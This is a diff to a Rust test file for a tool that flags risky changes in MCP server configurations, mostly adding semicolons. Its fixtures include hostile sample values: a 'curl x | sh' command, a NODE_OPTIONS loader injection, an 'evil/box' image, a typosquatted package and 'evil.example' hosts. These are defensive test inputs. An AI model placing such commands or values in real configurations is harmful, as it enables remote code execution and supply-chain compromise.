@@ -204,10 +204,10 @@ impl Repository {
     }
 
     fn edit(&self, file: &str, patch: &Value) {
-        let path = self.path().join(file);
-        let mut value: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+        let text = fs::read_to_string(self.path().join(file)).unwrap();
+        let mut value: Value = serde_json::from_str(&text).unwrap();
         merge(&mut value, patch);
-        write(&path, value.to_string());
+        self.add(file, &value);
     }
 
     fn add(&self, file: &str, value: &Value) {
@@ -342,7 +342,7 @@ const CASES: &[Case] = &[
             it.edit(
                 LOCK,
                 &json!({ "servers": { "acme__hosted": { "reconstructed": true } } }),
-            )
+            );
         },
         &[
             "acme__hosted destination-source-changed review",
@@ -355,7 +355,7 @@ const CASES: &[Case] = &[
             it.edit(
                 LOCK,
                 &json!({ "servers": { "acme__hosted": { "recorded": "2026-11-01" } } }),
-            )
+            );
         },
         &["acme__hosted discovery-refreshed safe"],
     ),
@@ -381,7 +381,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "scopes": ["notes", "admin"] } }),
-            )
+            );
         },
         &[
             "acme__notes scope-added review",
@@ -439,7 +439,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "requires_proxy": false } }),
-            )
+            );
         },
         &[
             "acme__notes destination-removed review",
@@ -466,7 +466,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "access_token_env_var": "OTHER" } }),
-            )
+            );
         },
         &["acme__notes token-delivery-changed review"],
     ),
@@ -503,7 +503,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "server": { "args": ["-y", "acme-mcp@1.5.0", "--stdio"] } }),
-            )
+            );
         },
         &["acme__notes version-changed review"],
     ),
@@ -513,7 +513,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "server": { "args": ["-y", "acme-mcp", "--stdio"] } }),
-            )
+            );
         },
         &[
             "acme__notes pin-removed review",
@@ -526,7 +526,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "server": { "args": ["-y", "acme-mpc@1.4.0", "--stdio"] } }),
-            )
+            );
         },
         &["acme__notes program-changed breaking"],
     ),
@@ -536,7 +536,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "server": { "command": "bash", "args": ["-c", "curl x | sh"] } }),
-            )
+            );
         },
         &["acme__notes program-changed breaking"],
     ),
@@ -546,7 +546,7 @@ const CASES: &[Case] = &[
             it.edit(
                 BOX,
                 &json!({ "server": { "args": ["run", "-i", "--rm", "evil/box:1.0", "serve"] } }),
-            )
+            );
         },
         &["acme__box program-changed breaking"],
     ),
@@ -556,7 +556,7 @@ const CASES: &[Case] = &[
             it.edit(
                 BOX,
                 &json!({ "server": { "args": ["run", "-i", "--rm", "acme/box:2.0", "serve"] } }),
-            )
+            );
         },
         &["acme__box version-changed review"],
     ),
@@ -585,7 +585,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "server": { "env": { "NODE_OPTIONS": "--require /tmp/x" } } }),
-            )
+            );
         },
         &["acme__notes loader-variable-set breaking"],
     ),
@@ -622,7 +622,7 @@ const CASES: &[Case] = &[
             it.edit(
                 BOX,
                 &json!({ "server": { "inject_file": { "/etc/box.json": "{\"a\":1}" } } }),
-            )
+            );
         },
         &["acme__box injected-file-changed review"],
     ),
@@ -651,7 +651,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "user_config": { "api_key": { "sensitive": false } } }),
-            )
+            );
         },
         &["acme__notes sensitive-dropped breaking"],
     ),
@@ -673,7 +673,7 @@ const CASES: &[Case] = &[
             it.edit(
                 NOTES,
                 &json!({ "description": "More notes", "keywords": ["notes"] }),
-            )
+            );
         },
         &["acme__notes metadata-changed safe"],
     ),
@@ -757,7 +757,7 @@ const CASES: &[Case] = &[
             it.add(
                 "generated/oauth_proxy/providers.json",
                 &json!({ "allowed": ["evil.example"] }),
-            )
+            );
         },
         &["artifact-edited breaking"],
     ),
@@ -818,7 +818,7 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "client_secret": "REDACTED" } }),
-            )
+            );
         },
         &[
             "acme__notes secret-removed safe",
@@ -849,13 +849,13 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "requires_proxy": false } }),
-            )
+            );
         },
         |it| {
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "requires_proxy": true } }),
-            )
+            );
         },
         &[
             "acme__notes destination-added breaking",
@@ -886,13 +886,13 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "default_scopes": ["notes"] } }),
-            )
+            );
         },
         |it| {
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "default_scopes": ["admin"] } }),
-            )
+            );
         },
         &["acme__notes fallback-scopes-changed review"],
     ),
@@ -905,7 +905,6 @@ const PREPARED_CASES: &[PreparedCase] = &[
         },
         &[
             "acme__open login-host-added breaking",
-            "acme__open login-host-removed safe",
             "acme__open registration-changed review",
         ],
     ),
@@ -916,7 +915,7 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "archestra_config": { "oauth": { "required": false } } }),
-            )
+            );
         },
         &["acme__notes login-requirement-changed review"],
     ),
@@ -936,7 +935,7 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 OPEN,
                 &json!({ "server": { "url": "https://open.acme.example/v2" } }),
-            )
+            );
         },
         &["acme__open remote-url-changed review"],
     ),
@@ -950,7 +949,7 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "oauth_config": { "streamable_http_port": 9000 } }),
-            )
+            );
         },
         &["acme__notes http-endpoint-changed review"],
     ),
@@ -960,13 +959,13 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "server": { "env": { "ACME_URL": "https://acme.example" } } }),
-            )
+            );
         },
         |it| {
             it.edit(
                 NOTES,
                 &json!({ "server": { "env": { "ACME_URL": "https://evil.example" } } }),
-            )
+            );
         },
         &["acme__notes environment-changed review"],
     ),
@@ -977,7 +976,7 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "user_config": { "region": { "mounted": true } } }),
-            )
+            );
         },
         &["acme__notes mount-changed review"],
     ),
@@ -987,7 +986,7 @@ const PREPARED_CASES: &[PreparedCase] = &[
             it.edit(
                 NOTES,
                 &json!({ "user_config": { "region": { "required": true } } }),
-            )
+            );
         },
         |it| {
             let input = json!({ "required": false, "sensitive": true, "default": "eu" });
@@ -1337,8 +1336,8 @@ fn a_folder_is_a_base_too() {
     // Outside every repository a bare name can only be a folder.
     assert_eq!(
         changes(&diff_json(scratch.path(), "before")).len(),
-        5,
-        "five servers are gone"
+        4,
+        "four servers are gone"
     );
     let (code, _, stderr) = run(&now, &["diff", "--base", "../nowhere"]);
     assert_eq!(code, 2);
